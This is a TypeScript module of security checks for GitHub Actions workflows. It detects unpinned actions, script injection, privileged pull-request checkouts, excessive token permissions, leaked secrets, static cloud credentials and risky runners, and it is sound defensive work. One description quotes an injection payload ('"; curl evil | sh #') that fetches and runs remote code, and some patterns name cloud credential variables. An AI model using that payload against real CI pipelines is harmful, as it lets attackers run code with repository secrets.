import type { CheckMeta } from '../check.js';
import { asArray, asString, isRecord, type Json, type Path } from '../kubernetes/parse.js';
import {
  callsTo,
  findExpressions,
  flowingRefs,
  inputName,
  isUntrusted,
  parseExpression,
  type Ast,
} from './expressions.js';
import { CONSTRAINED_TYPES, parseUses, stepUses, type GhaModel, type Job, type Step } from './model.js';
import { heredocOpened, printsAt } from './shell.js';

export interface GhaHit {
  line: number;
  endLine?: number;
  column?: number;
  message: string;
  subject: string;
}

export interface GhaCheck extends CheckMeta {
  run(m: GhaModel): GhaHit[];
}

const DOCS = 'https://docs.github.com/en/actions/reference/security/secure-use';
const ZIZMOR = 'https://docs.zizmor.sh/audits/';
const POUTINE = 'https://boostsecurityio.github.io/poutine/rules/';

function at(m: GhaModel, path: Path, message: string, subject: string): GhaHit {
  const p = m.doc.pos(path);
  return { line: p.line, endLine: p.line, column: p.column, message, subject };
}

const stepName = (job: Job, step: Step) => `${job.id}/steps[${step.index}]`;

/** Actions published by GitHub (zizmor's default policy lets these be pinned to a tag). */
const FIRST_PARTY = new Set(['actions', 'github', 'dependabot']);

interface UsesSite {
  path: Path;
  uses: string;
  subject: string;
}

function usesSites(m: GhaModel): UsesSite[] {
  const out: UsesSite[] = [];
  for (const job of m.jobs) {
    if (job.uses) out.push({ path: [...job.path, 'uses'], uses: job.uses, subject: job.id });
    for (const s of job.steps)
      if (s.uses) out.push({ path: [...s.path, 'uses'], uses: s.uses, subject: stepName(job, s) });
  }
  if (m.kind === 'action') {
    const image = asString(m.jobs[0]?.value['image']);
    if (image && /^docker:\/\//i.test(image.trim()))
      out.push({ path: ['runs', 'image'], uses: image.trim(), subject: 'runs.image' });
  }
  return out;
}

function unpinned(m: GhaModel, firstParty: boolean): GhaHit[] {
  return usesSites(m).flatMap((site) => {
    const u = parseUses(site.uses);
    if (u.kind === 'docker') {
      return !firstParty && !u.pinned
        ? [at(m, site.path, `${site.uses} is not pinned to an image digest (@sha256:…)`, site.subject)]
        : [];
    }
    if (u.kind !== 'action' || u.pinned) return [];
    const isFirst = FIRST_PARTY.has(u.owner) && u.ref !== undefined;
    if (isFirst !== firstParty) return [];
    const what = u.ref === undefined ? 'has no ref' : `is pinned to '${u.ref}', not to a full commit SHA`;
    return [at(m, site.path, `uses: ${site.uses} ${what}`, site.subject)];
  });
}

const oneLine = (s: string) => s.replace(/\s+/g, ' ').trim();

/** An expression in a scalar, with the line where it starts. */
interface LocatedExpression {
  ast: Ast;
  body: string;
  line: number;
}

function expressionsAt(m: GhaModel, path: Path): LocatedExpression[] {
  const raw = m.doc.raw(path);
  if (!raw) return [];
  return findExpressions(raw.text).map((e) => ({
    ast: parseExpression(e.body),
    body: oneLine(e.body),
    line: m.doc.lineAt(raw.offset + e.start),
  }));
}

/**
 * Inputs of well-known actions that run their value as code (a small subset of zizmor's
 * codeql-injection-sinks list): action name (lower case) → input names.
 */
const SCRIPT_INPUTS: Record<string, string[]> = {
  'actions/github-script': ['script'],
  'amadevus/pwsh-script': ['script'],
  'jannekem/run-python-script-action': ['script'],
  'addnab/docker-run-action': ['run', 'options'],
  'appleboy/ssh-action': ['script'],
  'mikefarah/yq': ['cmd'],
};

interface Sink {
  path: Path;
  subject: string;
  job: Job;
  step: Step;
}

/** Script sinks: every `run:`, and the script inputs of the actions above. */
function scriptSinks(m: GhaModel): Sink[] {
  const out: Sink[] = [];
  for (const job of m.jobs)
    for (const step of job.steps) {
      const base = { job, step };
      if (step.run !== undefined)
        out.push({ ...base, path: [...step.path, 'run'], subject: `${stepName(job, step)}/run` });
      const u = step.uses ? parseUses(step.uses) : undefined;
      for (const input of u?.kind === 'action' ? (SCRIPT_INPUTS[u.name] ?? []) : [])
        if (typeof step.with[input] === 'string')
          out.push({
            ...base,
            path: [...step.path, 'with', input],
            subject: `${stepName(job, step)}/${input}`,
          });
    }
  return out;
}

const refText = (r: readonly string[]) => r.join('.');

/** Value of `env.<name>` as seen by a step: step env, then job env, then workflow env. */
function envValue(m: GhaModel, job: Job, step: Step, name: string): string | undefined {
  const scopes = [step.value['env'], m.kind === 'workflow' ? job.value['env'] : undefined];
  if (m.kind === 'workflow') scopes.push((m.doc.value as { [k: string]: Json })['env']);
  for (const env of scopes) {
    if (!isRecord(env)) continue;
    const key = Object.keys(env).find((k) => k.toLowerCase() === name);
    if (key !== undefined) return asString(env[key]) ?? '';
  }
  return undefined;
}

interface Flow {
  ref: string[];
  /** `env.X` the value went through, when it did. */
  via?: string;
}

/** Refs flowing out of an expression, following `env.X` to the expression that defines X (3 hops). */
function flows(m: GhaModel, sink: Sink, ast: Ast, depth = 0, via?: string): Flow[] {
  return flowingRefs(ast).flatMap((ref): Flow[] => {
    const name = ref[0] === 'env' ? ref[1] : undefined;
    if (name && name !== '*' && depth < 3) {
      const v = envValue(m, sink.job, sink.step, name);
      if (v !== undefined)
        return findExpressions(v).flatMap((e) =>
          flows(m, sink, parseExpression(e.body), depth + 1, via ?? `env.${name}`),
        );
    }
    return [{ ref, ...(via ? { via } : {}) }];
  });
}

function injection(m: GhaModel, kind: 'context' | 'input'): GhaHit[] {
  // One finding per sink line: several expressions on one line are one place to fix.
  const byLine = new Map<string, { line: number; exprs: string[]; names: string[]; sink: Sink }>();
  for (const sink of scriptSinks(m)) {
    for (const e of expressionsAt(m, sink.path)) {
      const whole = callsTo(e.ast, 'tojson').length > 0;
      const bad = flows(m, sink, e.ast).filter(({ ref }) => {
        if (kind === 'context') return isUntrusted(ref, whole);
        const name = inputName(ref);
        return name !== undefined && !CONSTRAINED_TYPES.has(m.inputs.get(name) ?? '');
      });
      if (bad.length === 0) continue;
      const key = `${sink.subject}@${e.line}`;
      const entry = byLine.get(key) ?? { line: e.line, exprs: [], names: [], sink };
      entry.exprs.push(`\${{ ${e.body} }}`);
      for (const f of bad) entry.names.push(f.via ? `${f.via} (${refText(f.ref)})` : refText(f.ref));
      byLine.set(key, entry);
    }
  }
  return [...byLine.values()].map(({ line, exprs, names, sink }) => {
    const what = [...new Set(names)].join(', ');
    const expr = [...new Set(exprs)].join(' ');
    return {
      line,
      message:
        kind === 'context'
          ? `${expr} expands attacker-controlled ${what} into a script`
          : `${expr} expands the free-text input ${what} into a script`,
      subject: `${sink.subject}/${[...new Set(names)].join(',')}`,
    };
  });
}

const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];
/** A checkout ref/repository naming the pull request's (or triggering run's) head. */
const PR_HEAD =
  /github\.event\.pull_request\.(?:head\.(?:sha|ref|repo)|merge_commit_sha)|github\.head_ref|refs\/pull\/|github\.event\.workflow_run\.head_(?:sha|branch|repository)/i;
const GH_PR_CHECKOUT = /\bgh\s+pr\s+checkout\b/i;
const GIT_FETCH = /\bgit\s+(?:fetch|checkout|switch|pull)\b/i;

function prTargetCheckout(m: GhaModel): GhaHit[] {
  if (m.kind !== 'workflow') return [];
  const triggers = PRIVILEGED_TRIGGERS.filter((t) => m.triggers.has(t));
  if (triggers.length === 0) return [];
  const why = `in a workflow triggered by ${triggers.join(', ')}`;
  const out: GhaHit[] = [];
  for (const job of m.jobs)
    for (const s of job.steps) {
      if (stepUses(s, 'actions/checkout')) {
        for (const key of ['ref', 'repository']) {
          const v = asString(s.with[key]);
          if (v && PR_HEAD.test(v.replace(/\s+/g, ''))) {
            out.push(
              at(
                m,
                [...s.path, 'with', key],
                `actions/checkout of the pull request head (${key}: ${v.trim()}) ${why}`,
                stepName(job, s),
              ),
            );
            break;
          }
        }
      } else if (s.run !== undefined) {
        for (const l of m.doc.rawLines([...s.path, 'run']) ?? []) {
          const hasHead = GH_PR_CHECKOUT.test(l.text) || (GIT_FETCH.test(l.text) && PR_HEAD.test(l.text));
          if (hasHead) {
            out.push({
              line: l.line,
              message: `run: checks out the pull request head ${why}`,
              subject: stepName(job, s),
            });
            break;
          }
        }
      }
    }
  return out;
}

/** Scopes that let a leaked token change code, packages or workflow runs. */
const POWERFUL_SCOPES = new Set(['contents', 'packages', 'actions']);

function grantsPowerfulWrite(p: Json | undefined): boolean {
  if (p === 'write-all') return true;
  if (!isRecord(p)) return false;
  return Object.entries(p).some(([k, v]) => POWERFUL_SCOPES.has(k) && v === 'write');
}

function permissionsMissing(m: GhaModel): GhaHit[] {
  if (m.kind !== 'workflow') return [];
  const root = m.doc.value as { [k: string]: Json };
  if ('permissions' in root) return [];
  // A reusable workflow runs with the permissions its caller grants.
  if (m.triggers.size > 0 && [...m.triggers].every((t) => t === 'workflow_call')) return [];
  const bare = m.jobs.filter((j) => !('permissions' in j.value));
  if (bare.length === 0) return [];
  const line = m.doc.keyLine(['jobs']);
  return [
    {
      line,
      message: `no top-level permissions and job(s) ${bare.map((j) => j.id).join(', ')} set none: they get the repository's default token permissions`,
      subject: 'permissions',
    },
  ];
}

function writeAll(m: GhaModel): GhaHit[] {
  if (m.kind !== 'workflow') return [];
  const out: GhaHit[] = [];
  const root = m.doc.value as { [k: string]: Json };
  if (root['permissions'] === 'write-all')
    out.push(at(m, ['permissions'], 'workflow permissions: write-all', 'workflow'));
  for (const j of m.jobs)
    if (j.value['permissions'] === 'write-all')
      out.push(at(m, [...j.path, 'permissions'], `job ${j.id} has permissions: write-all`, j.id));
  return out;
}

/** Every string scalar of the document with its path (for checks that look at any expression). */
function stringPaths(v: Json, path: Path = [], out: Path[] = []): Path[] {
  if (typeof v === 'string') {
    if (v.includes('${{')) out.push(path);
  } else if (Array.isArray(v)) v.forEach((x, i) => stringPaths(x, [...path, i], out));
  else if (isRecord(v)) for (const [k, x] of Object.entries(v)) stringPaths(x, [...path, k], out);
  return out;
}

/** Secret expressions looked at per line (each costs a pass over the line). */
const MAX_SECRETS_PER_LINE = 16;

const isSecretRef = (r: readonly string[]) => r[0] === 'secrets';

function secretsEchoed(m: GhaModel): GhaHit[] {
  const out: GhaHit[] = [];
  const seen = new Set<string>();
  const push = (h: GhaHit) => {
    const key = `${h.line}\0${h.subject}`;
    if (!seen.has(key)) out.push(h);
    seen.add(key);
  };
  // toJSON(secrets) / fromJSON(secrets.x) anywhere: all secrets, or an unmasked derived value.
  for (const path of stringPaths(m.doc.value)) {
    for (const e of expressionsAt(m, path)) {
      const all =
        callsTo(e.ast, 'tojson').some((c) =>
          c.args.flatMap(flowingRefs).some((r) => r.length === 1 && r[0] === 'secrets'),
        ) || flowingRefs(e.ast).some((r) => r[0] === 'secrets' && r[1] === '*');
      if (all)
        push({
          line: e.line,
          message: `\${{ ${e.body} }} exposes every secret of the repository at once`,
          subject: `${path.join('.')}/all`,
        });
      if (callsTo(e.ast, 'fromjson').some((c) => c.args.flatMap(flowingRefs).some(isSecretRef)))
        push({
          line: e.line,
          message: `\${{ ${e.body} }}: a value decoded from a secret is not masked in logs`,
          subject: `${path.join('.')}/fromjson`,
        });
    }
  }
  // run: lines that print a secret.
  for (const job of m.jobs)
    for (const s of job.steps) {
      if (s.run === undefined) continue;
      const path = [...s.path, 'run'];
      const lines = m.doc.rawLines(path) ?? [];
      let heredoc: { delimiter: string; prints: boolean } | undefined;
      for (const l of lines) {
        if (heredoc) {
          if (l.text.trim() === heredoc.delimiter) {
            heredoc = undefined;
            continue;
          }
          if (!heredoc.prints) continue;
        }
        // One finding per line: stop at the first secret that is printed.
        const printed = findExpressions(l.text)
          .filter((e) => flowingRefs(parseExpression(e.body)).some(isSecretRef))
          .slice(0, MAX_SECRETS_PER_LINE)
          .find((e) => heredoc?.prints || (!heredoc && printsAt(l.text, e.start)));
        if (printed)
          push({
            line: l.line,
            message: `run: prints \${{ ${oneLine(printed.body)} }} to the log, a step output or the summary`,
            subject: `${stepName(job, s)}/echo`,
          });
        if (!heredoc) heredoc = heredocOpened(l.text);
      }
    }
  return out;
}

interface CloudLogin {
  action: string;
  keys: string[];
  instead: string;
}
const CLOUD_LOGINS: CloudLogin[] = [
  {
    action: 'azure/login',
    keys: ['creds'],
    instead: 'client-id, tenant-id and subscription-id with id-token: write',
  },
  {
    action: 'aws-actions/configure-aws-credentials',
    keys: ['aws-secret-access-key', 'aws-access-key-id'],
    instead: 'role-to-assume with id-token: write',
  },
  {
    action: 'google-github-actions/auth',
    keys: ['credentials_json'],
    instead: 'workload_identity_provider and service_account with id-token: write',
  },
  {
    action: 'google-github-actions/setup-gcloud',
    keys: ['service_account_key'],
    instead: 'google-github-actions/auth with workload identity federation',
  },
];
/** Environment variables that hand a static cloud credential to the tools of a job. */
const CLOUD_ENV =
  /^(?:AWS_SECRET_ACCESS_KEY|AZURE_CREDENTIALS|AZURE_CLIENT_SECRET|ARM_CLIENT_SECRET|GOOGLE_CREDENTIALS)$/i;

function longLivedCloud(m: GhaModel): GhaHit[] {
  const out: GhaHit[] = [];
  const envHits = (env: Json | undefined, path: Path, subject: string) => {
    if (!isRecord(env)) return;
    for (const [k, v] of Object.entries(env))
      if (CLOUD_ENV.test(k) && typeof v === 'string' && /\bsecrets\s*[.[]/i.test(v))
        out.push(
          at(
            m,
            [...path, k],
            `env ${k} carries a long-lived cloud credential from a secret`,
            `${subject}/env/${k}`,
          ),
        );
  };
  if (m.kind === 'workflow') envHits((m.doc.value as { [k: string]: Json })['env'], ['env'], 'workflow');
  for (const job of m.jobs) {
    if (m.kind === 'workflow') envHits(job.value['env'], [...job.path, 'env'], job.id);
    for (const s of job.steps) {
      envHits(s.value['env'], [...s.path, 'env'], stepName(job, s));
      for (const login of CLOUD_LOGINS) {
        if (!stepUses(s, login.action)) continue;
        const key = login.keys.find((k) => s.with[k] !== undefined && s.with[k] !== '');
        if (key)
          out.push(
            at(
              m,
              [...s.path, 'with', key],
              `${login.action} logs in with a static credential (${key}); use ${login.instead}`,
              stepName(job, s),
            ),
          );
      }
    }
  }
  return out;
}

/** Events an outside contributor can trigger on a public repository. */
const OUTSIDER_TRIGGERS = [
  'pull_request',
  'pull_request_target',
  'issue_comment',
  'pull_request_review',
  'pull_request_review_comment',
];

function labelsOf(v: Json | undefined): string[] {
  if (typeof v === 'string') return [v];
  if (Array.isArray(v)) return v.flatMap(labelsOf);
  if (isRecord(v)) return labelsOf(v['labels']);
  return [];
}

/** Labels `runs-on` may take: literal ones, and the values of a `${{ matrix.x }}` dimension. */
function runnerLabels(job: Job): string[] {
  const runsOn = job.value['runs-on'];
  const labels = labelsOf(runsOn);
  const out: string[] = [];
  for (const l of labels) {
    const m = /^\s*\$\{\{\s*matrix\.([A-Za-z0-9_-]+)\s*\}\}\s*$/.exec(l);
    if (!m) {
      out.push(l);
      continue;
    }
    const matrix = isRecord(job.value['strategy']) ? job.value['strategy']['matrix'] : undefined;
    if (!isRecord(matrix)) continue;
    out.push(...labelsOf(matrix[m[1]!]));
    for (const inc of asArray(matrix['include'])) if (isRecord(inc)) out.push(...labelsOf(inc[m[1]!]));
  }
  return out;
}

function selfHosted(m: GhaModel): GhaHit[] {
  if (m.kind !== 'workflow') return [];
  const triggers = OUTSIDER_TRIGGERS.filter((t) => m.triggers.has(t));
  if (triggers.length === 0) return [];
  return m.jobs
    .filter((j) => runnerLabels(j).some((l) => l.trim().toLowerCase() === 'self-hosted'))
    .map((j) =>
      at(
        m,
        [...j.path, 'runs-on'],
        `job ${j.id} runs on a self-hosted runner in a workflow triggered by ${triggers.join(', ')}`,
        j.id,
      ),
    );
}

const UPLOADS = ['actions/upload-artifact', 'actions/upload-pages-artifact'];

function persistCredentials(m: GhaModel): GhaHit[] {
  if (m.kind !== 'workflow') return [];
  const root = m.doc.value as { [k: string]: Json };
  const privileged = PRIVILEGED_TRIGGERS.filter((t) => m.triggers.has(t));
  const out: GhaHit[] = [];
  for (const job of m.jobs) {
    const perms = 'permissions' in job.value ? job.value['permissions'] : root['permissions'];
    const writes = grantsPowerfulWrite(perms);
    job.steps.forEach((s, i) => {
      if (!stepUses(s, 'actions/checkout')) return;
      const persist = s.with['persist-credentials'];
      if (persist === false || (typeof persist === 'string' && persist.trim().toLowerCase() === 'false'))
        return;
      const upload = job.steps.slice(i + 1).find((x) => UPLOADS.some((u) => stepUses(x, u)));
      const why = upload
        ? `a later step uploads an artifact (${upload.uses})`
        : writes
          ? 'the job token can write contents, packages or actions'
          : privileged.length
            ? `the workflow is triggered by ${privileged.join(', ')}`
            : undefined;
      if (why)
        out.push(
          at(
            m,
            [...s.path, 'uses'],
            `actions/checkout keeps the token in .git/config and ${why}`,
            stepName(job, s),
          ),
        );
    });
  }
  return out;
}

export const githubActionsChecks: GhaCheck[] = [
  {
    id: 'gha-unpinned-action',
    title: 'Third-party action not pinned to a commit SHA',
    severity: 'medium',
    description:
      "A tag or branch of a third-party action (or a docker:// image without digest) can be moved by its owner or by whoever compromises it: the next run executes the new code with the job's token and secrets (tj-actions/changed-files, 2025).",
    remediation:
      'Pin `uses:` to a full 40-character commit SHA (keep the version in a comment, e.g. `@<sha> # v4.2.0`) and let Dependabot or Renovate update it; pin docker:// images to `@sha256:…`.',
    references: [`${DOCS}#using-third-party-actions`, `${ZIZMOR}#unpinned-uses`],
    equivalents: { zizmor: ['unpinned-uses'] },
    cwe: ['CWE-829'],
    run: (m) => unpinned(m, false),
  },
  {
    id: 'gha-unpinned-first-party-action',
    title: 'GitHub-owned action pinned to a tag',
    severity: 'low',
    description:
      'Actions under actions/, github/ and dependabot/ are published by GitHub; a tag is a lower risk there, but only a commit SHA makes the workflow reproducible.',
    remediation: 'Pin to a full commit SHA with the version in a comment, and let Dependabot update it.',
    references: [`${DOCS}#using-third-party-actions`, `${ZIZMOR}#unpinned-uses`],
    equivalents: { zizmor: ['unpinned-uses'] },
    cwe: ['CWE-829'],
    run: (m) => unpinned(m, true),
  },
  {
    id: 'gha-pr-target-checkout',
    title: 'Privileged workflow checks out pull request code',
    severity: 'critical',
    description:
      'pull_request_target, workflow_run and issue_comment workflows run with a write token and the repository secrets. Checking out the pull request head there and building or running it lets any fork author execute code with those privileges ("pwn request").',
    remediation:
      'Build untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass results as artifacts; if the privileged workflow must read the PR, never execute it (no install/build/test of the checked-out tree) and gate it on a label set by a maintainer.',
    references: [
      'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
      `${ZIZMOR}#dangerous-triggers`,
      `${POUTINE}untrusted_checkout_exec`,
    ],
    equivalents: { zizmor: ['dangerous-triggers'], poutine: ['untrusted_checkout_exec'] },
    cwe: ['CWE-829', 'CWE-94'],
    run: prTargetCheckout,
  },
  {
    id: 'gha-script-injection',
    title: 'Attacker-controlled context expanded into a script',
    severity: 'high',
    description:
      '`${{ … }}` is replaced in the script text before the shell (or github-script) runs it, so an issue title, PR body, branch name or commit message such as `"; curl evil | sh #` becomes code running with the job\'s token and secrets.',
    remediation:
      'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script (`process.env.TITLE` in github-script).',
    references: [
      `${DOCS}#understanding-the-risk-of-script-injections`,
      `${ZIZMOR}#template-injection`,
      `${POUTINE}injection`,
    ],
    equivalents: { zizmor: ['template-injection'], poutine: ['injection'], checkov: ['CKV_GHA_2'] },
    cwe: ['CWE-94', 'CWE-78'],
    run: (m) => injection(m, 'context'),
  },
  {
    id: 'gha-script-injection-input',
    title: 'Free-text input expanded into a script',
    severity: 'medium',
    description:
      'A string input of workflow_dispatch/workflow_call (or of a composite action) is replaced in the script text before it runs: whoever supplies the input (a caller workflow that forwards PR data, a user with write access) can inject commands. Boolean, number and choice inputs are not reported.',
    remediation:
      'Pass the input through an environment variable (`env: VERSION: ${{ inputs.version }}`) and quote it in the script.',
    references: [`${DOCS}#understanding-the-risk-of-script-injections`, `${ZIZMOR}#template-injection`],
    equivalents: { zizmor: ['template-injection'], poutine: ['injection'] },
    cwe: ['CWE-94', 'CWE-78'],
    run: (m) => injection(m, 'input'),
  },
  {
    id: 'gha-permissions-write-all',
    title: 'GITHUB_TOKEN granted write-all',
    severity: 'high',
    description:
      '`permissions: write-all` gives the job token write access to contents, packages, actions, workflows… any compromised step or dependency can push code, publish releases or change settings.',
    remediation:
      'Set `permissions: {}` (or `contents: read`) at the workflow level and grant each job only the scopes it needs.',
    references: [
      'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
      `${ZIZMOR}#excessive-permissions`,
    ],
    equivalents: { zizmor: ['excessive-permissions'], checkov: ['CKV2_GHA_1'] },
    cwe: ['CWE-250'],
    run: writeAll,
  },
  {
    id: 'gha-permissions-missing',
    title: 'Token permissions not declared',
    severity: 'low',
    description:
      'Without `permissions:` at the workflow level or on every job, the token gets the repository or organisation default, which is read/write on older repositories. Reusable workflows (only `workflow_call`) are not reported: their caller decides.',
    remediation:
      'Add `permissions: {}` or `permissions: contents: read` at the top of the workflow and widen per job.',
    references: [
      'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
      `${ZIZMOR}#excessive-permissions`,
      `${POUTINE}default_permissions_on_risky_events`,
    ],
    equivalents: {
      zizmor: ['excessive-permissions'],
      poutine: ['default_permissions_on_risky_events'],
      checkov: ['CKV2_GHA_1'],
    },
    cwe: ['CWE-250'],
    run: permissionsMissing,
  },
  {
    id: 'gha-secrets-echoed',
    title: 'Secret printed or over-exposed',
    severity: 'high',
    description:
      'Log masking only hides the exact registered secret value. A secret echoed, printed or written to a step output/summary leaks as soon as it is transformed (multi-line, encoded, sliced); `toJSON(secrets)` hands every secret to one step; a value decoded with `fromJSON(secrets.x)` is not masked at all.',
    remediation:
      'Pass only the secrets a step needs, through `env:`, to the command that consumes them (`--password-stdin`, a config file); never print them; register derived values with `::add-mask::`.',
    references: [
      `${DOCS}#using-secrets`,
      `${ZIZMOR}#overprovisioned-secrets`,
      `${ZIZMOR}#unredacted-secrets`,
    ],
    equivalents: { zizmor: ['overprovisioned-secrets', 'unredacted-secrets'], poutine: ['job_all_secrets'] },
    cwe: ['CWE-532', 'CWE-200'],
    run: secretsEchoed,
  },
  {
    id: 'gha-long-lived-cloud-credentials',
    title: 'Static cloud credentials instead of OIDC',
    severity: 'medium',
    description:
      "Azure, AWS and Google Cloud accept short-lived tokens from GitHub's OIDC provider. A service principal secret, access key or JSON key stored as a repository secret never expires on its own and works from anywhere once leaked.",
    remediation:
      'Use workload identity federation: `permissions: id-token: write` and azure/login with client-id/tenant-id/subscription-id, configure-aws-credentials with role-to-assume, google-github-actions/auth with workload_identity_provider.',
    references: [
      'https://docs.github.com/en/actions/concepts/security/openid-connect',
      'https://github.com/Azure/login#login-with-openid-connect-oidc-recommended',
    ],
    cwe: ['CWE-798'],
    run: longLivedCloud,
  },
  {
    id: 'gha-self-hosted-public',
    title: 'Self-hosted runner for pull requests or comments',
    severity: 'low',
    description:
      "Events an outside contributor can trigger (pull_request, pull_request_target, issue_comment, reviews) run on a persistent self-hosted runner: code from a fork can persist on the machine, read other jobs' data and reach the internal network.",
    remediation:
      'Use GitHub-hosted or ephemeral (just-in-time) runners for these events, or require approval for outside contributors and keep self-hosted runners to private repositories.',
    references: [
      'https://docs.github.com/en/actions/reference/security/secure-use#hardening-for-self-hosted-runners',
      `${ZIZMOR}#self-hosted-runner`,
      `${POUTINE}pr_runs_on_self_hosted`,
    ],
    equivalents: { zizmor: ['self-hosted-runner'], poutine: ['pr_runs_on_self_hosted'] },
    cwe: ['CWE-668'],
    run: selfHosted,
  },
  {
    id: 'gha-checkout-persist-credentials',
    title: 'Checkout persists the token where it can leak',
    severity: 'low',
    description:
      'actions/checkout writes the job token into .git/config unless `persist-credentials: false`, where every later step (and any artifact that includes .git) can read it. Reported only when that matters: a later step in the job uploads an artifact, the token can write contents/packages/actions (write-all included), or the workflow is triggered by pull_request_target, workflow_run or issue_comment.',
    remediation:
      'Add `with: persist-credentials: false` to actions/checkout, and pass a token explicitly to the step that pushes.',
    references: ['https://github.com/actions/checkout#usage', `${ZIZMOR}#artipacked`],
    equivalents: { zizmor: ['artipacked'] },
    cwe: ['CWE-522'],
    run: persistCredentials,
  },
];
